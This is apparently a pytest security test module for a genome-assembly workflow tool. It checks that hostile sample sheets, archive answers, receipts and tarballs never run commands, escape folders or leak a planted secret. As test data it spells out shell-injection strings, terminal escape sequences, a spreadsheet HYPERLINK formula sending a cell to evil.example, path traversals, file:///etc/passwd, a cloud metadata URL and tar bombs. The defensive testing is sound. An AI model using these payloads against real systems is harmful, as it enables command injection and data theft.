"""A hostile sheet, archive, receipt and tarball: nothing gets out, and other genomes finish.

Only the tools are stand-ins here. tests/workflow/test_attack.py attacks the real container with a
hostile tool and hostile reads.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import urllib.request
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest
from support.archive_data import add_run
from support.archive_server import Archive, Fault, serve
from support.cohorts import Cohort
from support.fastq import make_reads, to_fastq
from support.projects import write_project
from support.receipts import make_receipt
from support.serving import serve_here
from support.stages import DOWNLOAD_PARAMETERS, Genome
from support.tarballs import pack
from support.tools import FAKE_TOOLS

from bactofleet.archives import web
from bactofleet.cli.main import main
from bactofleet.core.samples import Sample
from bactofleet.core.toolset import needed_programs
from bactofleet.genome import download

REPOSITORY = Path(__file__).parents[2]
SECRET = "planted-secret"
QUERY = f"?X-Amz-Credential=me&X-Amz-Signature={SECRET}"
SHELL = "$(touch owned)`touch owned`|touch owned&touch owned>owned"
# A title, a cleared screen, C1's CSI; a mark that turns text around.
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x9b2J\u202e"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
# Few reads are enough, and of what an archive gives no more than needed.
OPTIONS = {
    **{"min_reads": 10, "min_basepairs": 100, "min_coverage": 0.1, "min_contig_length": 50},
    **{"min_genome_size": 1000, "max_genome_size": 100_000, "threads": 1, "polish": False},
    **{"species_references": "", "providers": ["ena"]},
}
# What the runs are asked for; the table and the report come from the command.
RECEIPTS = "results/.gathered/0"
EXTRACT = "extract --only *.gff.gz --to results/some"
INTO, CHECKSUMS = "extract --only *.gff.gz --into results/all.gff", "verify --checksums"
COMMANDS = ("check", "report", "status", "status --json", "citations", "verify", EXTRACT)
# Records every command that is started from Python, and spares the pauses between attempts.
SITE = """
import contextlib, sys

def record(event, arguments):
    if event in {{"subprocess.Popen", "os.exec", "os.posix_spawn", "os.system"}}:
        commands.write(f"{{arguments[:2]}}\\n")  # without the environment

commands = open({path!r}, "a", buffering=1)
sys.addaudithook(record)
with contextlib.suppress(ImportError):
    from bactofleet.archives import retry
    retry.FIRST_PAUSE_S = 0.001
"""
GENES = gzip.compress(b"genes", mtime=0)
READS = gzip.compress(to_fastq(make_reads(200, lengths=(60, 60))), mtime=0)
NOT_HTTPS = "leads to an address that is not https://"
NO_ANSWER = "SRA's answer does not have the documented form"
UNNAMED = "ENA did not name its files of SRR9000003, or not in a known form"


@dataclass
class Attacked:
    """A project on a machine of its own, after a run."""

    root: Path
    project: Path
    before: dict[str, str]
    """Checksums of all that was there before the run."""
    status: int
    said: str

    @property
    def results(self) -> Path:
        return self.project / "results"


def read_tree(root: Path) -> dict[str, str]:
    """Return a checksum of every file but those in the folders that a run writes to."""
    written = {"results", "scratch", ".snakemake", "recorded", "__pycache__"}
    return {
        str(path.relative_to(root)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in root.rglob("*")
        if path.is_file() and not written & set(path.relative_to(root).parts)
    }


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Attacked:
    """A run of a hostile sheet with a hostile server of files."""
    root = tmp_path_factory.mktemp("machine")
    project = root / "project"
    for name in ("config", "workflow", "profiles"):
        shutil.copytree(REPOSITORY / name, project / name)
    (root / "home").mkdir()
    (project / f"-rf {SHELL}.fastq.gz").write_bytes(READS)
    environment = install_tools(root)
    with serve(root) as archive:
        write_sheet(project, make_rows(archive))
        before = read_tree(root)
        ended = subprocess.run(
            [
                *(sys.executable, "-m", "snakemake", "--profile", "profiles/local", RECEIPTS),
                *("--cores", "2", "--retries", "0", "--config"),
                *(f"{name}={json.dumps(value)}" for name, value in OPTIONS.items()),
            ],
            cwd=project,
            env=os.environ | environment | archive.environment,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            check=False,
        )
    return Attacked(root, project, before, ended.returncode, ended.stdout)


def install_tools(root: Path) -> dict[str, str]:
    """Install stand-ins for the tools, and what records commands; return the environment."""
    for name in ("bin", "site", "recorded"):
        (root / name).mkdir()
    (root / "bin/python3").symlink_to(Path(sys.executable).resolve())
    for program in needed_programs(OPTIONS | {"assembler": "skesa"}):
        if not (FAKE_TOOLS / program).exists():
            (root / "bin" / program).write_text("#!/bin/sh\nexit 1\n")
            (root / "bin" / program).chmod(0o755)
    site = SITE.format(path=str(root / "recorded/commands"))
    (root / "site/sitecustomize.py").write_text(site)
    (root / "contigs.fa").write_text(f">Contig_1_12.5\n{'ATGACGTTAGCCA' * 100}\n")
    return {
        "PATH": f"{root / 'bin'}:{FAKE_TOOLS}:/usr/bin:/bin",
        "PYTHONPATH": str(root / "site"),
        "HOME": str(root / "home"),
        "FAKE_CONTIGS": str(root / "contigs.fa"),
        "AWS_SECRET_ACCESS_KEY": SECRET,
    }


def make_rows(archive: Archive) -> list[dict[str, str]]:
    """Let the archive lead elsewhere; return rows of the sheet."""
    archive.files["/metadata"] = READS
    archive.faults["/metadata"] = [Fault.TO_METADATA] * 9
    return [
        {"sample": "good", "r1": f"-rf {SHELL}.fastq.gz", "genome_size": "5000"},
        {"sample": "misled", "r1": f"{archive.url}/metadata{QUERY}"},
    ]


def write_sheet(project: Path, rows: Sequence[dict[str, str]]) -> None:
    """Write the sheet, with a column of the user's own that is hostile too."""
    columns = [*dict.fromkeys(name for row in rows for name in row), "note"]
    with (project / "config/samples.tsv").open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, columns, delimiter="\t", restval="")
        writer.writeheader()
        for row, note in zip(rows, cycle((FORMULA, f"{TERMINAL}{SHELL}")), strict=False):
            writer.writerow(row | {"note": note})


def read_records(attacked: Attacked, folder: str) -> dict[str, Any]:
    paths = (attacked.results / folder).glob("*.json")
    return {path.stem: json.loads(path.read_text()) for path in paths}


def test_the_other_genome_is_complete_and_the_failure_has_its_reason(attacked: Attacked) -> None:
    receipts, failures = read_records(attacked, "receipts"), read_records(attacked, "failed")

    assert attacked.status == 1, attacked.said
    assert {name: receipt["status"] for name, receipt in receipts.items()} == {"good": "complete"}
    assert failures.keys() == {"misled"}
    assert NOT_HTTPS in failures["misled"]["message"]


def test_nothing_outside_of_the_results_has_changed_and_no_foreign_command_ran(
    attacked: Attacked,
) -> None:
    commands = (attacked.root / "recorded/commands").read_text()

    assert read_tree(attacked.root) == attacked.before
    assert "fastp" in commands
    assert "'touch'" not in commands
    assert not list(attacked.root.rglob("owned*"))


def test_no_secret_is_left_behind(attacked: Attacked) -> None:
    holding = {
        str(path.relative_to(attacked.root))
        for path in attacked.root.rglob("*")
        if path.is_file() and SECRET.encode() in path.read_bytes()
    }

    assert holding == {"project/config/samples.tsv"}
    assert SECRET not in attacked.said


def test_no_command_lets_foreign_text_control_a_terminal_or_a_spreadsheet(
    attacked: Attacked, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(attacked.project)

    for command in COMMANDS:
        main(command.split())

    shown = capsys.readouterr()
    said = shown.out + shown.err + attacked.said
    assert "misled" in shown.out
    assert not CONTROL.search(said)
    assert SECRET not in said
    cells = list(iter_cells(attacked.results))
    assert any(FORMULA in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "-"))]
    assert not [cell for cell in cells if CONTROL.search(cell)]
    assert read_tree(attacked.root) == attacked.before


def iter_cells(results: Path) -> Iterator[str]:
    """Yield the cells of all tables."""
    for path in results.glob("*.tsv"):
        with path.open(newline="", encoding="utf-8") as file:
            for row in csv.reader(file, dialect="excel-tab"):
                yield from row


# --- archives -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    """What an archive says of the run that is asked for, and how the genome's failure begins."""

    ends: str
    ena: dict[str, str] = field(default_factory=dict)
    pages: dict[str, bytes] = field(default_factory=dict)
    endless: str = ""


SEARCH = "/ena/portal/api/search"
RUNINFO, ESEARCH = "/entrez/eutils/efetch.fcgi", "/entrez/eutils/esearch.fcgi"
OUTSIDE = "ftp.sra.ebi.ac.uk/../../../../owned/SRR9000003.fastq.gz"
ATTACKS = {
    "a file longer than announced": Attack("bytes, not 10", {"fastq_bytes": "10"}),
    "a file larger than any disk": Attack("the disk is full", {"fastq_bytes": "9" * 15}),
    "a path that leads out": Attack(UNNAMED, {"fastq_ftp": OUTSIDE}),
    "a path like a folder": Attack(UNNAMED, {"fastq_ftp": "ftp.sra.ebi.ac.uk/SRR9000003/.."}),
    "an option as a path": Attack(UNNAMED, {"fastq_ftp": "ftp.sra.ebi.ac.uk/-o/SRR9000003.gz"}),
    "another host": Attack(UNNAMED, {"fastq_ftp": "evil.example/SRR9000003.fastq.gz"}),
    "a run like a folder": Attack(NO_ANSWER, {"run_accession": "../../../owned"}),
    "a run like a command": Attack(NO_ANSWER, {"run_accession": SHELL}),
    "words for a number": Attack(NO_ANSWER, {"read_count": TERMINAL + FORMULA}),
    "an endless answer": Attack(NO_ANSWER, endless=SEARCH),
    "no table": Attack(NO_ANSWER, pages={SEARCH: b"\0" * 1000}),
    "a cell of a megabyte": Attack(NO_ANSWER, pages={SEARCH: b"run_accession\n" + b"x" * 2**20}),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_what_an_archive_says_becomes_neither_a_path_nor_a_command(
    archive: Archive, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    attack = ATTACKS[name]
    monkeypatch.setattr(web, "MAX_ANSWER_BYTES", 1 << 22)
    monkeypatch.chdir(tmp_path)
    run = add_run(archive, "SRR9000003", (".fastq.gz", READS), experiment="SRX9000003")
    run |= attack.ena
    archive.pages |= {ESEARCH: b'{"a":' * 100_000} | attack.pages
    if attack.endless:
        archive.faults[attack.endless] = [Fault.ENDLESS]
    genome = Genome(tmp_path)
    planned = genome.plan(Sample("S1", accession="SRX9000003", genome_size=5000))

    assert genome.run("download", download.run, parameters=DOWNLOAD_PARAMETERS | planned) == 75

    assert attack.ends in genome.failure()["message"]
    assert not CONTROL.search(genome.failure()["message"])
    assert not [path for path in tmp_path.rglob("*") if "owned" in path.name]
    assert {path.name for path in tmp_path.iterdir()} <= {
        *("scratch", "logs", "failed", "samples.sqlite"),
        "bin",
    }


@pytest.mark.parametrize(
    "row", [Sample("S1", r1=["credentials"]), Sample("S1", assembly="credentials")]
)
def test_a_file_that_is_no_genome_is_not_quoted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, row: Sample
) -> None:
    """A sheet may name a private file of whoever runs it, and receipts are shown to others."""
    monkeypatch.chdir(tmp_path)
    Path("credentials").write_text(f"{SECRET}\n" * 4)
    genome = Genome(tmp_path)
    planned = genome.plan(row)

    assert genome.run("download", download.run, parameters=DOWNLOAD_PARAMETERS | planned) == 0

    assert genome.record("download").excluded
    for path in (tmp_path / name for name in ("scratch", "logs")):
        files = [file for file in path.rglob("*") if file.is_file()]
        assert not [file for file in files if SECRET in file.read_text(errors="replace")]


# --- the sheet ------------------------------------------------------------------------------------


REFUSED = (
    {"sample": "../../owned", "r1": "reads.fq"},
    {"sample": "/etc/owned", "r1": "reads.fq"},
    {"sample": SHELL, "r1": "reads.fq"},
    {"sample": FORMULA, "r1": "reads.fq"},
    {"sample": TERMINAL, "r1": "reads.fq"},
    {"sample": "-rf", "r1": "reads.fq"},
    {"sample": "n" * 100_000, "r1": "reads.fq"},
    {"sample": "device", "r1": "/dev/zero"},
    {"sample": "folder", "r1": "."},
    {"sample": "file", "r1": "file:///etc/passwd"},
    {"sample": "metadata", "r1": "http://169.254.169.254/latest/meta-data/"},
    {"sample": "login", "r1": f"https://me:{SECRET}@localhost/reads.fq"},
    {"sample": "long", "r1": "r" * 100_000},
    {"sample": "words", "r1": TERMINAL},
    {"sample": "species", "r1": "reads.fq", "species": f"Owned {SHELL}"},
    {"sample": "size", "r1": "reads.fq", "genome_size": "9" * 100_000},
)


def test_a_sheet_of_hostile_names_is_refused_line_by_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    write_project(tmp_path, [])
    (tmp_path / "reads.fq").write_bytes(READS)
    write_sheet(tmp_path, REFUSED)
    monkeypatch.chdir(tmp_path)
    before = read_tree(tmp_path)

    assert main(["check"]) == 1

    said = capsys.readouterr().err
    lines = {int(number) for number in re.findall(r"line (\d+), column", said)}
    assert lines == set(range(2, len(REFUSED) + 2)), said
    assert not CONTROL.search(said)
    assert SECRET not in said
    assert len(said) < 10_000
    assert read_tree(tmp_path) == before


# --- receipts and tarballs ------------------------------------------------------------------------


def make_bomb(sample: str) -> bytes:
    """Return a tarball of 256 MiB and more of zeros, in less than 1/1000 of it."""
    return pack({f"{sample}/main/bomb.gff.gz": bytes((256 << 20) + (64 << 20))})


TARBALLS = {
    "outside": lambda name: pack({f"{name}/../../owned": b"x"}),
    "absolute": lambda name: pack({"/tmp/owned": b"x"}),  # noqa: S108 - a hostile name
    "foreign": lambda name: pack({"good/main/owned.gff.gz": b"x"}),
    "link": lambda name: pack({f"{name}/owned.gff.gz": b""}, tarfile.SYMTYPE),
    "hard_link": lambda name: pack({f"{name}/owned.gff.gz": b""}, tarfile.LNKTYPE),
    "device": lambda name: pack({f"{name}/owned.gff.gz": b""}, tarfile.CHRTYPE),
    "pipe": lambda name: pack({f"{name}/owned.gff.gz": b""}, tarfile.FIFOTYPE),
    "terminal": lambda name: pack({f"{name}/{TERMINAL}owned.gff.gz": b"x"}, tarfile.SYMTYPE),
    "bomb": make_bomb,
    "no_tarball": lambda name: b"owned",
}
RECEIPTS_OF = {
    "nested": b'{"sample":' * 100_000,
    "null": b"null",
    "numbers": b'{"schema": 1e999, "sample": NaN}',
    "bytes": bytes(range(256)) * 100,
    "another": json.dumps(make_receipt("good")).encode(),
    "outside": json.dumps(make_receipt("../../owned")).encode(),
}


def plant(folder: Path, name: str, content: bytes = b"") -> None:
    """Write a receipt, with the tarball that it describes."""
    tarball = TARBALLS[name](name) if name in TARBALLS else b"x"
    described = {"path": "../../owned", "bytes": len(tarball)}
    receipt = make_receipt(
        name,
        tarball=described | {"sha256": hashlib.sha256(tarball).hexdigest()},
        input={"kind": FORMULA, "species": TERMINAL + FORMULA, "sources": [f"https://x/{QUERY}"]},
        versions={TERMINAL: SHELL},
        host={"name": TERMINAL},
    )
    (folder / f"{name}.tar.gz").write_bytes(tarball)
    (folder / f"receipts/{name}.json").write_bytes(content or json.dumps(receipt).encode())


@pytest.fixture
def planted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project with one good genome, and hostile receipts, tarballs and files in their place."""
    project = tmp_path / "project"
    project.mkdir()
    (tmp_path / "secret").write_text(SECRET)
    results = project / "results"
    (results / "receipts").mkdir(parents=True)
    files = {"good/bactofleet.json": b"{}", "good/main/good.gff.gz": GENES}
    monkeypatch.setitem(TARBALLS, "good", lambda name: pack(files))
    plant(results, "good")
    for name in TARBALLS.keys() - {"good"}:
        plant(results, name)
    for name, content in RECEIPTS_OF.items():
        plant(results, f"receipt_{name}", content)
    os.mkfifo(results / "receipts/receipt_pipe.json")
    (results / "receipts/receipt_device.json").symlink_to("/dev/zero")
    (results / "receipts/receipt_folder.json").mkdir()
    (results / "receipts/receipt_secret.json").symlink_to(tmp_path / "secret")
    for name in ("tarball_pipe", "tarball_device", "tarball_nowhere"):
        plant(results, name)
        (results / f"{name}.tar.gz").unlink()
    os.mkfifo(results / "tarball_pipe.tar.gz")
    (results / "tarball_device.tar.gz").symlink_to("/dev/zero")
    (results / "tarball_nowhere.tar.gz").symlink_to("nowhere")
    names = {path.name.partition(".")[0] for path in (results / "receipts").iterdir()}
    write_project(project, [])
    write_sheet(project, [{"sample": name, "accession": "SRX1000001"} for name in sorted(names)])
    monkeypatch.chdir(project)
    return project


def test_no_receipt_and_no_tarball_reaches_beyond_its_genome(
    planted: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = read_tree(tmp_path)

    codes = {command: main(command.split()) for command in (*COMMANDS, CHECKSUMS, INTO)}

    shown = capsys.readouterr()
    said = shown.out + shown.err
    assert codes[EXTRACT] == codes[INTO] == codes[CHECKSUMS] == 1
    assert Path("results/some/good.gff.gz").read_bytes() == GENES
    assert [path.name for path in Path("results/some").glob("*.gz")] == ["good.gff.gz"]
    assert Path("results/all.gff").read_bytes() == b"genes\n"
    for name in (*TARBALLS.keys() - {"good"}, "tarball_pipe", "tarball_device", "tarball_nowhere"):
        assert re.search(rf"\b{name}(\.tar\.gz)?\b.*(tarball|regular|file)", shown.err), name
    for name in (*RECEIPTS_OF, "pipe", "device", "folder", "secret"):
        assert f"receipt_{name}.json cannot be read" in said, name
    assert not CONTROL.search(said)
    assert SECRET not in said
    assert not [cell for cell in iter_cells(planted / "results") if CONTROL.search(cell)]
    assert not list(tmp_path.rglob("*owned*"))
    assert not Path("/tmp/owned").exists()  # noqa: S108 - a hostile name
    assert read_tree(tmp_path) == before


def test_the_page_of_a_run_takes_hostile_records(planted: Path) -> None:
    names = [path.stem for path in (planted / "results/receipts").iterdir()]
    with serve_here() as server:
        place = f"http://127.0.0.1:{server.server_address[1]}"
        genomes = (f"/api/genome?sample={name}" for name in names)
        for address in ("/", "/api/state", "/api/genomes", *genomes):
            with urllib.request.urlopen(place + address) as answer:  # noqa: S310 - our own
                body = answer.read()
            assert answer.status == 200
            assert SECRET.encode() not in body


def test_no_object_of_a_bucket_reaches_beyond_its_genome(
    cohort: Cohort, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "secret").write_text(SECRET)
    cohort.publish("good")
    good = cohort.get("good.tar.gz")
    for name in TARBALLS:
        plant(tmp_path / "results", name)
        tarball = tmp_path / f"results/{name}.tar.gz"
        cohort.put(tarball.name, tarball.read_bytes())
        tarball.unlink()
    for name, text in {"nested": "W10=" * 500, "words": TERMINAL.encode().hex()}.items():
        lost = pack({f"lost_{name}/bactofleet.json": b"{}"})
        cohort.put(f"lost_{name}.tar.gz", lost, Metadata={"receipt": text})
    cohort.put(f"../{SHELL}.tar.gz", good)
    cohort.put(f"{TERMINAL}.tar.gz", good)
    before = read_tree(tmp_path)

    fetched = cohort.call("fetch", "--status", "complete", "--only", "*", "--into", "results/some")
    pulled = cohort.call("receipts", "pull")
    verified = cohort.call("verify")

    said = "".join(capsys.readouterr())
    assert (fetched, pulled, verified) == (1, 1, 1)
    assert {path.name for path in Path("results/some").iterdir()} == {".lock", "good"}
    assert not [name for name in TARBALLS if f"{name}: its tarball" not in said], said
    for name in ("nested", "words"):
        assert f"lost_{name}.tar.gz: its metadata 'receipt' cannot be read" in said
    assert not CONTROL.search(said)
    assert SECRET not in said
    assert not list(tmp_path.rglob("*owned*"))
    assert read_tree(tmp_path) == before
